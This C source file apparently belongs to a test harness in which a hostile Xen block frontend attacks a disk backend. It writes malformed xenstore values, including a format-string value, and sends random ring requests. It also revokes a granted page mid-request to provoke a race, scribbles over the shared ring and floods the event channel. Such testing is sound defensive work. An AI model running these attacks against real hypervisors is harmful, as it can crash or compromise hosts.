/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks on a disk's back end. Source of the protocol: public/io/blkif.h. */
#include "front.h"

#include <runtime/console.h>
#include <runtime/evtchn.h>
#include <runtime/mm.h>
#include <runtime/time.h>
#include <string.h>

#include <public/io/blkif.h>

#define RING_SLOTS __CONST_RING_SIZE(blkif, PAGE_SIZE)
#define GIVE_UP_MS 1500u
#define ROUNDS 20u

static struct blkif_sring *ring;
static grant_ref_t ring_ref, data_ref;

static void pause_ms(unsigned int ms)
{
    (void)event_wait(time_now_ns() + ms * NS_PER_MS);
}

static void offer(struct device *dev)
{
    device_state(dev, XenbusStateInitialised);
    (void)device_wait(dev, XenbusStateConnected, GIVE_UP_MS);
}

static bool connect(struct device *dev)
{
    ring = device_share(dev, &ring_ref);
    (void)device_share(dev, &data_ref);
    ring->req_event = ring->rsp_event = 1;
    device_write(dev, "ring-ref", "%u", ring_ref);
    device_write(dev, "protocol", "x86_64-abi");
    device_port(dev);
    device_state(dev, XenbusStateInitialised);
    if (!device_wait(dev, XenbusStateConnected, 2 * GIVE_UP_MS)) {
        printk("HOSTILE vbd: not connected\n");
        return false;
    }
    device_state(dev, XenbusStateConnected);
    return true;
}

/* Hand over requests as they lie in the ring, and give the other end time. */
static void push(struct device *dev, unsigned int count)
{
    __atomic_store_n(&ring->req_prod, ring->req_prod + count, __ATOMIC_RELEASE);
    (void)evtchn_send(dev->port);
    pause_ms(5);
}

static struct blkif_request *slot(unsigned int n)
{
    return &ring->ring[(ring->req_prod + n) % RING_SLOTS].req;
}

static void no_ring(struct device *dev)
{
    offer(dev);
}

static void nobodys_ring(struct device *dev)
{
    device_write(dev, "ring-ref", "%u", 0xfffffffu);
    device_port(dev);
    offer(dev);
}

static void words_for_numbers(struct device *dev)
{
    device_write(dev, "ring-ref", "abc%%s%%n");
    device_write(dev, "event-channel", "-1");
    device_write(dev, "protocol", "pdp11-abi");
    offer(dev);
}

static void huge_order(struct device *dev)
{
    device_port(dev);
    device_write(dev, "ring-page-order", "%u", 100u);
    device_write(dev, "ring-ref0", "%u", 8u);
    offer(dev);
}

static void many_queues(struct device *dev)
{
    device_port(dev);
    device_write(dev, "multi-queue-num-queues", "%u", 4000000000u);
    offer(dev);
}

static void nobodys_port(struct device *dev)
{
    (void)device_share(dev, &ring_ref);
    device_write(dev, "ring-ref", "%u", ring_ref);
    device_write(dev, "protocol", "x86_64-abi");
    device_write(dev, "event-channel", "%u", 4000u);
    offer(dev);
}

static void index_ahead(struct device *dev)
{
    if (connect(dev)) {
        push(dev, 100000);
        pause_ms(100);
    }
}

/* Pages that were not shared, more segments than there are, sectors that are not, operations that are none. */
static void wild_requests(struct device *dev)
{
    bool connected = false;

    for (unsigned int round = 0; round < ROUNDS; round++) {
        if (!connected && !connect(dev)) {
            return;
        }
        for (unsigned int i = 0; i < RING_SLOTS; i++) {
            struct blkif_request *r = slot(i);
            uint64_t n = any();

            r->operation = (uint8_t)(n & 1 ? n >> 8 & 7 : n >> 8);
            r->nr_segments = (uint8_t)(n & 2 ? n >> 16 & 15 : n >> 16);
            r->id = any();
            r->sector_number = n & 4 ? any() : n >> 40;
            for (unsigned int k = 0; k < BLKIF_MAX_SEGMENTS_PER_REQUEST; k++) {
                r->seg[k].gref = n & 8 ? data_ref : (grant_ref_t)any();
                r->seg[k].first_sect = (uint8_t)(any() >> 5 & 15);
                r->seg[k].last_sect = (uint8_t)(any() >> 5 & 15);
            }
        }
        push(dev, RING_SLOTS);
        connected = ring->rsp_prod == ring->req_prod;
        if (!connected && !device_restart(dev)) { /* it had enough of us */
            return;
        }
    }
}

/* A request that cannot be faulted, and the page taken away under it. */
static void revoked(struct device *dev)
{
    struct grant_entry_v1 *e;

    if (!connect(dev)) {
        return;
    }
    e = grant_entry(data_ref);
    for (unsigned int round = 0; round < 10 * ROUNDS; round++) {
        struct blkif_request *r = slot(0);

        *r = (struct blkif_request){ .operation = BLKIF_OP_READ, .nr_segments = 1, .id = round };
        r->seg[0].gref = data_ref;
        r->seg[0].last_sect = 7;
        __atomic_store_n(&ring->req_prod, ring->req_prod + 1, __ATOMIC_RELEASE);
        (void)evtchn_send(dev->port);
        for (unsigned int spin = (unsigned int)(any() % 2000); spin != 0; spin--) {
            cpu_relax();
        }
        e->flags = 0;
        e->frame = (uint32_t)any();
        for (unsigned int spin = (unsigned int)(any() % 2000); spin != 0; spin--) {
            cpu_relax();
        }
        e->frame = (uint32_t)virt_to_gfn(ring); /* another page of ours: its own ring */
        e->flags = GTF_permit_access;
        for (unsigned int waited = 0; ring->req_prod - ring->rsp_prod >= RING_SLOTS; waited++) {
            if (waited == 1000) {
                return; /* it does not answer any more */
            }
            pause_ms(1);
        }
    }
}

static void scribbled(struct device *dev)
{
    uint64_t end;

    if (!connect(dev)) {
        return;
    }
    end = time_now_ns() + NS_PER_S;
    while (time_now_ns() < end) {
        ((uint64_t *)ring)[any() % (PAGE_SIZE / sizeof(uint64_t))] = any();
        (void)evtchn_send(dev->port);
    }
}

static void event_storm(struct device *dev)
{
    if (connect(dev)) {
        storm(dev, 1000);
    }
}

static void flapping(struct device *dev)
{
    device_flap(dev);
    device_write(dev, "state", "closed, I think");
}

static void dies(struct device *dev)
{
    (void)connect(dev);
}

static const struct attack attacks[] = {
    { "connects with no ring", no_ring },
    { "a ring that is nobody's", nobodys_ring },
    { "words for numbers", words_for_numbers },
    { "a ring of 2^100 pages", huge_order },
    { "four thousand million queues", many_queues },
    { "a port that is nobody's", nobodys_port },
    { "a request index far ahead", index_ahead },
    { "wild requests", wild_requests },
    { "pages taken back while in use", revoked },
    { "a ring scribbled over", scribbled },
    { "an event storm", event_storm },
    { "states that flap", flapping },
    { "dies while connected", dies },
};

void vbd_attacks(void)
{
    static struct device dev;

    device_attack(&dev, "vbd", attacks, ARRAY_SIZE(attacks));
}
